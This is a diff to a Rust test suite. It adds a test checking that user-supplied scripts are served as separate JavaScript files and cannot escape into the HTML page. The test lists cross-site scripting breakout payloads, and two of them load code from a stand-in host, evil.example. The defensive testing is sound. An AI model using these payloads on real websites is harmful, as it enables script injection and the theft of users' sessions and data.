@@ -59,6 +59,27 @@ async fn inj_05_a_script_is_named_with_its_hash_and_a_nonce_and_runs_as_a_file()
 }
 
 #[tokio::test]
+async fn inj_05_a_script_cannot_leave_its_file() {
+    for code in [
+        "x = '</script><script>alert(1)</script>'",
+        "x = '<!--<script>'; alert(1) // -->",
+        "/* ]]></script><img src=x onerror=alert(1)> */",
+        "//# sourceMappingURL=https://evil.example/a.map",
+        "x = '\u{2028}\u{2029}\u{feff}'; import('https://evil.example/a.js')",
+    ] {
+        let mut browser = at(dressed(with_script(code)));
+        let page = browser.get("/invoices").await;
+        assert!(!page.body.contains(code) && !page.body.contains("evil.example"), "{code}");
+        assert!(!page.body.contains("alert(1)"), "{code}");
+        let [script] = &scripts(&page)[..] else { panic!("one script, {:?}", scripts(&page)) };
+        let file = browser.get(script).await;
+        assert_eq!(file.body, code);
+        assert_eq!(file.header(header::CONTENT_TYPE), "text/javascript; charset=utf-8");
+        assert_eq!(file.header("x-content-type-options"), "nosniff");
+    }
+}
+
+#[tokio::test]
 async fn inj_05_a_reference_is_loaded_from_an_allowed_origin_alone() {
     let tag = "<script src=\"https://cdn.example/a.js\"></script>";
     let page = at(dressed(with_script(tag))).get("/").await;
